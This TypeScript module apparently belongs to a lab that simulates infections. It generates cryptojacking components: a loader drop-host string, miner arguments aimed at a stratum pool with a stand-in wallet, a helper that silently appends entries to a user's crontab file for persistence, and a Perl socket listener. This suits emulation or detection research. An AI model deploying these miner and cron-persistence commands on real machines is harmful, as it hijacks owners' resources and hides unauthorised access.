import { world } from '../../lab/addresses.ts';
import { standInWallet } from '../../lab/infection/infection.ts';

/** A download host as loaders name it: a public bare address without TLS. */
export const dropHost = `${world.loader}:${world.loaderPort}`;
const poolUrl = `stratum+tcp://${world.pool}:${world.poolPort}`;
export const minerWords = `-o ${poolUrl} -u ${standInWallet} -p x -k`;

/** Adds lines behind those that stand in a crontab. */
export const addCron = (account: string, lines: readonly string[]): string => {
  const file = `/var/spool/cron/crontabs/${account}`;
  const echoes = lines.map((line) => `printf '%s\\n' '${line.replaceAll("'", "'\\''")}' >>${file}`);
  return [
    `[ -e ${file} ] || (umask 077; : >${file})`,
    ...echoes,
    `chown ${account}:crontab ${file}; chmod 600 ${file}; touch /var/spool/cron/crontabs`,
  ].join('\n');
};

/** A program that serves, in perl, which every lab machine has: read from standard input by what runs it. */
export const serving = (port: number, answer = ''): string => `use strict; use Socket;
$SIG{HUP} = 'IGNORE'; $SIG{CHLD} = 'IGNORE';
socket(my $s, PF_INET, SOCK_STREAM, 0) or die;
setsockopt($s, SOL_SOCKET, SO_REUSEADDR, 1);
bind($s, sockaddr_in(${port}, INADDR_ANY)) or die; listen($s, 16) or die;
while (accept(my $c, $s)) { my $line = <$c> // ''; ${answer} print $c "HTTP/1.0 200 OK\\r\\n\\r\\nok\\n"; close $c; }
`;
